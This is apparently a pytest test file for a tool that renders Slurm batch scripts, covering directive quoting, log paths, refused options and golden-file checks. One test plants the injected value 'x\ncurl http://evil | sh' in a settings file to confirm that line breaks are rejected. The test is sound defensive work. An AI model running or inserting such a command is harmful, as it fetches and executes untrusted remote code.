"""Rendering of batch scripts: directives, quoting, the golden files."""

from __future__ import annotations

import shlex
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aiflux.core.config.config import Config, SlurmConfig
from aiflux.errors import ConfigError
from aiflux.slurm.script import (
    JobScript,
    directive,
    generic_script,
    job_name,
    log_file,
    log_pattern,
    make_logs,
    render,
    signal_seconds,
)
from aiflux.util.value_parsers import CONTROL

REPOSITORY = Path(__file__).parents[3]
GOLDEN = REPOSITORY / "tests" / "golden" / "run.sbatch"
SHELLCHECK = Path(sys.executable).with_name("shellcheck")

texts = st.text(st.characters(exclude_characters="\0\n\r", exclude_categories=["Cs"]), min_size=1)


def job(**changes: object) -> JobScript:
    values: dict[str, object] = {
        "name": "aiflux-results",
        "slurm": SlurmConfig(),
        "image": Path("/sw/aiflux.sif"),
        "input": Path("/home/u/in.jsonl"),
        "output_dir": Path("/home/u"),
        "models_dir": Path("/scratch/models"),
        "run_dir": Path("/home/u/results.json.aiflux"),
        "log": Path("/home/u/results.json.aiflux/logs"),
    }
    return JobScript(**(values | changes))  # type: ignore[arg-type]


def full_job() -> JobScript:
    """Return a job that uses every part of a script."""
    folder = Path('/home/u/it\'s, a "test": $(x) 50% ü')
    slurm = SlurmConfig(
        account="proj-1",
        partition="gpu",
        qos="long",
        gpus_per_node="a100:2",
        constraint="a100&nvlink",
        exclude="n[7-9]",
        reservation="course 1",
        mail_user="me@example.org",
        mail_type="END,FAIL",
        time="1-12:00:00",
        mem="64G",
        cpus_per_task=16,
        sbatch_arg={"comment": 'two words # and a "quote"', "exclusive": ""},
        modules=("apptainer/1.4", "cuda"),
        setup=("export TMPDIR=/local/$SLURM_JOB_ID", 'echo "on $HOSTNAME"'),
    )
    return job(
        slurm=slurm,
        input=folder / "in.jsonl",
        output_dir=folder,
        run_dir=folder / "results.json.aiflux",
        log=folder / "results.json.aiflux" / "logs",
        tasks="0-199%8",
        first=1000,
        drain_seconds=45.5,
        max_requeues=3,
    )


def arguments_of(line: str) -> list[str]:
    """Parse one ``#SBATCH`` line as sbatch does (``get_argument``, Slurm's src/sbatch/opt.c)."""
    arguments, rest = [], line.removeprefix("#SBATCH")
    while rest := rest.lstrip(" \t\n\v\f\r"):
        argument, quote, escaped, position = "", "", False, 0
        while position < len(rest) and (quote or rest[position] not in " \t\n\v\f\r"):
            char = rest[position]
            if escaped:
                escaped = False
            elif char == "\\":
                escaped = True
                position += 1
                continue
            elif quote and char == quote:
                quote = ""
                position += 1
                continue
            elif not quote and char in "\"'":
                quote = char
                position += 1
                continue
            elif not quote and char == "#":
                return [*arguments, argument] if argument else arguments
            argument += char
            position += 1
        assert not quote, f"unmatched quote in {line!r}"
        arguments.append(argument)
        rest = rest[position:]
    return arguments


@given(texts)
def test_a_directive_reads_back_as_it_was_written(value: str) -> None:
    assert arguments_of(directive("comment", value)) == [f"--comment={value}"]


def test_the_job_id_is_part_of_the_log_s_name() -> None:
    assert log_pattern(Path("/a 50% b")) == "/a 50%% b/slurm-%j.out"
    assert log_file(Path("/a 50% b"), "7") == Path("/a 50% b/slurm-7.out")


def test_slurm_writes_a_log_below_a_backslash_through_a_link(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    folder = tmp_path / "a\\b %j" / "logs"
    for _ in range(2):
        make_logs(folder)
    pattern = log_pattern(folder)
    assert pattern.startswith(f"{tmp_path / 'state' / 'aiflux' / 'logs'}/")
    assert pattern.endswith("/slurm-%j.out")
    Path(pattern.replace("%j", "7")).write_text("text", encoding="utf-8")
    assert log_file(folder, "7").read_text(encoding="utf-8") == "text"
    other = tmp_path / "a\\b"
    make_logs(other)
    assert Path(log_pattern(other)).parent.resolve() == other


def test_without_a_place_for_the_link_the_log_s_directory_is_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", "/c\\d")
    with pytest.raises(ConfigError, match="path contains a backslash"):
        render(job(log=Path("/a\\b")))
    assert "/logs/slurm-%j.out" in render(job())


def test_each_task_of_an_array_has_its_own_log() -> None:
    assert log_pattern(Path("/a 50%"), array=True) == "/a 50%%/slurm-%A_%a.out"
    assert log_file(Path("/a 50%"), "7", 3) == Path("/a 50%/slurm-7_3.out")


def test_the_task_of_an_array_determines_its_shard() -> None:
    text = render(job(tasks="3,7-9%2", first=40))
    assert "\n#SBATCH --array=3,7-9%2\n" in text
    assert "/logs/slurm-%A_%a.out\n" in text
    assert "\nfirst=40\nshard=$((first + SLURM_ARRAY_TASK_ID))\n" in text


def test_a_job_without_an_array_names_its_shard() -> None:
    text = render(job(shard=4))
    assert "#SBATCH --array" not in text
    assert "/logs/slurm-%j.out\n" in text
    assert "\nshard=4\n" in text


@pytest.mark.parametrize(
    ("drain", "seconds"), [(0, 60), (30, 90), (30.2, 91), (600, 660), (1e6, 65535)]
)
def test_slurm_signals_before_the_drain_begins(drain: float, seconds: int) -> None:
    assert signal_seconds(drain) == seconds
    assert f"\n#SBATCH --signal=B:USR1@{seconds}\n" in render(job(drain_seconds=drain))


def test_none_leaves_a_directive_out() -> None:
    slurm = SlurmConfig(time=None, mem=None, cpus_per_task=None, gpus_per_node="0")
    text = render(job(slurm=slurm))
    for name in (
        *("time", "mem", "cpus-per-task", "gpus-per-node", "account", "qos", "gres", "array"),
        *("mail-user", "mail-type", "exclude", "reservation", "constraint", "partition"),
    ):
        assert f"#SBATCH --{name}" not in text
    assert "\nwant_gpus=0\n" in text


def test_slurm_may_shorten_a_job_to_start_it_earlier() -> None:
    slurm = SlurmConfig(time="08:00:00", time_min="01:00:00").checked()
    assert "\n#SBATCH --time=08:00:00\n#SBATCH --time-min=01:00:00\n" in render(job(slurm=slurm))
    assert "time-min" not in render(job(slurm=SlurmConfig()))
    with pytest.raises(ConfigError, match="time_min = 05:00:00 is more than the time limit 4:00"):
        SlurmConfig(time="4:00", time_min="05:00:00").checked()


def test_gres_replaces_gpus_per_node() -> None:
    text = render(job(slurm=SlurmConfig(gres="gpu:a100:2", gpus_per_node="4")))
    assert "#SBATCH --gres=gpu:a100:2" in text
    assert "gpus-per-node" not in text
    assert "\nwant_gpus=1\n" in text


def test_memory_per_core_replaces_memory() -> None:
    text = render(job(slurm=SlurmConfig(sbatch_arg={"mem-per-cpu": "4G"})))
    assert "#SBATCH --mem-per-cpu=4G" in text
    assert "#SBATCH --mem=" not in text


def test_the_job_name_can_be_set() -> None:
    text = render(job(slurm=SlurmConfig(sbatch_arg={"job-name": "mine"})))
    assert text.count("--job-name=") == 1
    assert "#SBATCH --job-name=mine\n" in text


@pytest.mark.parametrize(
    "name",
    ["output", "error", "array", "signal", "requeue", "no-requeue", "open-mode", "wrap", "export",
     "parsable", "chdir", "nodes", "ntasks", "outp", "arr", "account", "time", "gpus", "o", "-o",
     "exclude me", "", "mail-type", "mail-user", "mail", "exclude", "excl", "reservation"],
)  # fmt: skip
def test_options_that_aiflux_sets_are_refused_by_name(name: str) -> None:
    with pytest.raises(ConfigError, match="sbatch_arg") as caught:
        render(job(slurm=SlurmConfig(sbatch_arg={name: "x"})))
    assert repr(name) in caught.value.message
    assert caught.value.remedy


@pytest.mark.parametrize(
    ("name", "seen"),
    [
        ("help", "'help' is not available: AI-Flux controls --help"),
        ("outp", "'outp' is not available: it is the beginning of --output"),
        ("excl", "'excl' is not available: it is the beginning of --exclude"),
        ("mail", "'mail' is not available: it is the beginning of --mail-type and --mail-user"),
        ("no", "it is the beginning of --no-requeue and --nodes"),
    ],
)
def test_a_refused_sbatch_option_is_named_as_it_was_given(name: str, seen: str) -> None:
    with pytest.raises(ConfigError) as caught:
        render(job(slurm=SlurmConfig(sbatch_arg={name: "x"})))
    assert caught.value.message.endswith(seen)


def directives_of(script: str) -> list[str]:
    """Return the options that sbatch reads from a script, up to the first command."""
    found = []
    for line in script.split("\n"):
        if line.strip() and not line.startswith("#"):
            break
        if line.startswith("#SBATCH"):
            found += arguments_of(line)
    return found


any_texts = st.text(st.characters(exclude_categories=["Cs"])) | st.text("ab\n\r\0\"'\\#\t $`=")
DIRECTIVES = {
    "account": "account", "partition": "partition", "qos": "qos", "gres": "gres",
    "constraint": "constraint", "exclude": "exclude", "reservation": "reservation",
    "mail_user": "mail-user", "mail_type": "mail-type", "time": "time", "mem": "mem",
    "gpus_per_node": "gpus-per-node",
}  # fmt: skip
PATHS = ("image", "input", "output_dir", "models_dir", "run_dir")


@given(st.sampled_from([*DIRECTIVES, "comment"]), any_texts)
def test_any_value_of_a_setting_reads_back_from_the_script_or_is_refused(
    name: str, value: str
) -> None:
    given = {"sbatch_arg": {name: value}} if name == "comment" else {name: value}
    try:
        slurm = SlurmConfig(**given)
        script = render(job(slurm=slurm))
    except ConfigError:
        formed = ("time", "mem", "gpus_per_node")
        assert CONTROL.search(value) or not value.strip() or name in formed
        return
    kept = value if name == "comment" else getattr(slurm, name)
    wanted = f"--{DIRECTIVES.get(name, name)}" + (f"={kept}" if kept else "")
    usual = [
        option for option in directives_of(render(job()))
        if option.partition("=")[0] != wanted.partition("=")[0]
    ]  # fmt: skip
    if name == "gres" or (name == "gpus_per_node" and kept == "0"):
        usual = [option for option in usual if "gpus" not in option]
    left_out = name == "gpus_per_node" and kept == "0"
    assert sorted(directives_of(script)) == sorted(usual + ([] if left_out else [wanted]))


@given(st.sampled_from(["modules", "setup", "sbatch_arg"]), any_texts)
def test_a_setting_changed_past_its_parser_cannot_end_a_line(name: str, value: str) -> None:
    slurm = SlurmConfig()
    object.__setattr__(slurm, name, {"comment": value} if name == "sbatch_arg" else (value,))
    try:
        script = render(job(slurm=slurm))
    except ConfigError:
        return
    whole = render(job()).split("\n")
    more = 1 if name != "modules" else 0
    assert len(script.split("\n")) == len(whole) + more


@given(st.sampled_from(PATHS), any_texts)
def test_any_path_reads_back_from_the_script_or_is_refused(name: str, value: str) -> None:
    path = Path(f"/a{value}")
    try:
        script = render(job(**{name: path}))
    except ConfigError:
        assert {"\n", "\0"} & {*value}
        return
    (line,) = (line for line in script.split("\n") if line.startswith(f"{name}="))
    assert shlex.split(line) == [f"{name}={path}"]
    assert directives_of(script) == directives_of(render(job()))


def test_a_line_break_in_a_file_of_settings_is_refused_with_its_line(tmp_path: Path) -> None:
    (tmp_path / "aiflux.yaml").write_text(
        'slurm:\n  sbatch_arg:\n    comment: "x\\ncurl http://evil | sh"\n', encoding="utf-8"
    )
    with pytest.raises(ConfigError, match=r"line 2.*sbatch_arg") as caught:
        Config(environ={"HOME": str(tmp_path)}, directory=tmp_path)
    assert "line breaks" in str(caught.value.remedy)


def test_directives_come_before_the_first_command() -> None:
    lines = render(full_job()).splitlines()
    first_command = next(i for i, line in enumerate(lines) if line and not line.startswith("#"))
    assert not any(line.startswith("#SBATCH") for line in lines[first_command:])


@pytest.mark.parametrize(
    ("output", "name"),
    [
        ("results.json", "aiflux-results"),
        ("a b,$(c).results.jsonl", "aiflux-a-b-c-.results"),
        ("ü.json", "aiflux"),
        ("x" * 100 + ".json", "aiflux-" + "x" * 57),
    ],
)
def test_job_names_are_plain(output: str, name: str) -> None:
    assert job_name(Path("/d") / output) == name


def test_the_script_equals_the_golden_file() -> None:
    assert render(full_job()) == GOLDEN.read_text(encoding="utf-8"), (
        "the script changed; if that was meant: python -m tests.unit.slurm.test_script"
    )


def test_the_committed_generic_script_is_up_to_date() -> None:
    committed = REPOSITORY / "slurm" / "run.sbatch"
    assert committed.read_text(encoding="utf-8") == generic_script(), "make slurm/run.sbatch"


SCRIPTS = {
    "generic": generic_script(),
    "full": render(full_job()),
    "without an image": render(job(image=None, models_dir=None, worker=("/a b/python", "-m", "x"))),
}


@pytest.mark.parametrize("text", SCRIPTS.values(), ids=SCRIPTS)
def test_scripts_pass_shellcheck(text: str, tmp_path: Path) -> None:
    if not SHELLCHECK.exists():
        pytest.skip("shellcheck is not installed next to this Python")
    script = tmp_path / "run.sbatch"
    script.write_text(text, encoding="utf-8")
    # A path may look as if it were meant to be expanded.
    done = subprocess.run(
        [SHELLCHECK, "--exclude=SC2016", script], capture_output=True, text=True, check=False
    )
    assert done.stdout + done.stderr == ""


if __name__ == "__main__":
    GOLDEN.write_text(render(full_job()), encoding="utf-8")
